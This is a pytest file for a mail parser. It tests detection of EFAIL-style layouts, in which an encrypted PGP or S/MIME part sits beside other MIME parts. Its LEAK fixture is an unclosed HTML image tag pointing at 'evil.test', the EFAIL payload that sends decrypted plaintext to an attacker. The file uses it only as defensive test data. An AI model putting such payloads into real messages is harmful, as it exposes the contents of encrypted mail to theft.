"""Encrypted parts: those that are their whole message, and those that are a defect (EFAIL)."""

import base64

import pytest

from netmail import DefectKind, DefectSeverity, MessageError, parse

ARMOR = "-----BEGIN PGP MESSAGE-----\n\nwcBMA\n-----END PGP MESSAGE-----\n"
PGP = (
    "Content-Type: multipart/encrypted; boundary=e; protocol=application/pgp-encrypted\n\n"
    "--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n"
    f"--e\nContent-Type: application/octet-stream\n\n{ARMOR}--e--\n"
)
ENVELOPED = base64.b64encode(bytes.fromhex("308006092a864886f70d010703a080")).decode() + "\n"
AUTHENTICATED = (
    base64.b64encode(bytes.fromhex("3080060b2a864886f70d0109100117a080")).decode() + "\n"
)
SIGNED_DATA = base64.b64encode(bytes.fromhex("308006092a864886f70d010702a080")).decode() + "\n"


def pkcs7(parameters="", content=ENVELOPED, kind="pkcs7-mime"):
    """A part of S/MIME."""
    return (
        f"Content-Type: application/{kind}{parameters}\nContent-Transfer-Encoding: base64\n\n"
        + (content)
    )


def mixed(*parts, kind="mixed", boundary="m"):
    """A multipart of parts."""
    inner = "".join(f"--{boundary}\n{part}\n" for part in parts)
    return f"Content-Type: multipart/{kind}; boundary={boundary}\n\n{inner}--{boundary}--\n"


def text(content, kind="plain"):
    """A text."""
    return f"Content-Type: text/{kind}\n\n{content}"


def signature(kind="pkcs7-signature"):
    """The part that holds a signature."""
    return f"Content-Type: application/{kind}\n\nMIIB\n"


def nested(message):
    """A forwarded message."""
    return f"Content-Type: message/rfc822\n\n{message}"


def errant(message):
    """The parts that are encrypted and are not the whole message."""
    defects = parse(message.encode()).defects
    return [each.part for each in defects if each.kind is DefectKind.ERRANT_ENCRYPTION]


LEAK = text('<img src="http://evil.test/', "html")

WHOLE = {
    "PGP/MIME": PGP,
    "enveloped": pkcs7("; smime-type=enveloped-data"),
    "authenticated": pkcs7("; smime-type=authEnveloped-data", AUTHENTICATED),
    "old name": pkcs7(kind="x-pkcs7-mime"),
    "armored text": text("\n" + ARMOR),
    "signed outside": mixed(pkcs7(), signature(), kind="signed"),
    "PGP signed outside": mixed(PGP, signature("pgp-signature"), kind="signed"),
    "signed twice outside": mixed(
        mixed(pkcs7(), signature(), kind="signed", boundary="i"), signature(), kind="signed"
    ),
}
"""Messages whose encrypted part is all there is."""

BESIDE = {
    "PGP/MIME": (mixed(LEAK, PGP), ["2"]),
    "PGP/MIME alone in a multipart": (mixed(PGP), ["1"]),
    "enveloped": (mixed(LEAK, pkcs7("; smime-type=enveloped-data"), LEAK), ["2"]),
    "capitals": (mixed(LEAK, pkcs7("; smime-type=Enveloped-Data")), ["2"]),
    "authenticated": (mixed(LEAK, pkcs7("; smime-type=authEnveloped-data")), ["2"]),
    "old name": (mixed(LEAK, pkcs7("; smime-type=enveloped-data", kind="x-pkcs7-mime")), ["2"]),
    "no smime-type": (mixed(LEAK, pkcs7()), ["2"]),
    "no smime-type, authenticated": (mixed(LEAK, pkcs7(content=AUTHENTICATED)), ["2"]),
    "smime-type lies": (mixed(LEAK, pkcs7("; smime-type=signed-data")), ["2"]),
    "content is broken": (mixed(LEAK, pkcs7("; smime-type=enveloped-data", "%")), ["2"]),
    "armored text": (mixed(LEAK, text(ARMOR)), ["2"]),
    "text before": (text("Look:\n" + ARMOR), [""]),
    "text after": (text(ARMOR + "Bye\n"), [""]),
    "two armored texts": (text(ARMOR + ARMOR), [""]),
    "armor without an end": (text(ARMOR[:30]), [""]),
    "parts without their multipart": (
        mixed(
            text(""),
            "Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
            f"Content-Type: application/octet-stream\n\n{ARMOR}",
        ),
        ["2"],
    ),
    "part without any multipart": ("Content-Type: application/pgp-encrypted\n\nVersion: 1\n", [""]),
    "third part": (PGP.replace("--e--", f"--e\n{LEAK}\n--e--"), [""]),
    "several": (mixed(PGP, pkcs7(), text("x")), ["1", "2"]),
    "third part beside a signature": (mixed(pkcs7(), signature(), LEAK, kind="signed"), ["1"]),
    "in place of a signature": (mixed(LEAK, pkcs7(), kind="signed"), ["2"]),
    "signed by nothing": (mixed(pkcs7(), LEAK, kind="signed"), ["1"]),
    "beside others in a forwarded message": (mixed(LEAK, nested(mixed(LEAK, PGP))), ["2.2"]),
}
"""Messages with something beside an encrypted part, and the sections of such parts."""


@pytest.mark.parametrize("message", WHOLE.values(), ids=WHOLE)
def test_whole(message):
    """What is all of a message is right, within signatures of the whole too."""
    assert errant(message) == []


@pytest.mark.parametrize(("message", "sections"), BESIDE.values(), ids=BESIDE)
def test_beside_others(message, sections):
    """What has neighbours is a defect: shown with them, it is sent to the attacker."""
    assert errant(message) == sections


@pytest.mark.parametrize("message", WHOLE.values(), ids=WHOLE)
def test_forwarded_message(message):
    """RFC 9787 section 6.3: a forwarded message is a document of its own, beside whatever."""
    assert errant(mixed(LEAK, nested(message))) == []
    assert errant(nested(message)) == []


@pytest.mark.parametrize(
    "part",
    [
        pkcs7("; smime-type=signed-data", SIGNED_DATA),
        pkcs7("; smime-type=certs-only", SIGNED_DATA),
        pkcs7(content=SIGNED_DATA),
        text("> -----BEGIN PGP MESSAGE-----\n> wcBMA\n> -----END PGP MESSAGE-----\n"),
        text("write -----BEGIN PGP MESSAGE----- at the beginning\n"),
        text("-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nHello\n"),
        "Content-Type: application/pgp-keys\n\n-----BEGIN PGP PUBLIC KEY BLOCK-----\n",
    ],
)
def test_not_encrypted(part):
    """What is signed only, quoted, or a key may be anywhere."""
    assert errant(mixed(LEAK, part)) == []
    assert errant(part) == []


def test_severity():
    """Readers with the key see another message than those without: parsing strictly refuses it."""
    octets = mixed(LEAK, PGP).encode()
    [defect] = parse(octets).defects

    assert defect.severity is DefectSeverity.ERROR
    assert defect.offset == octets.index(b"Content-Type: multipart/encrypted")
    with pytest.raises(MessageError, match="not the whole message"):
        parse(octets, strict=True)


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (PGP, True),
        (pkcs7("; smime-type=enveloped-data"), True),
        (pkcs7("; smime-type=authEnveloped-data"), True),
        (pkcs7(), True),
        (pkcs7("; smime-type=signed-data"), False),
        (mixed(LEAK, PGP), False),
    ],
)
def test_encrypted_mail(message, expected):
    """A mail is encrypted if its root is, by AES-GCM (authEnveloped-data) too."""
    assert parse(message.encode()).is_encrypted is expected
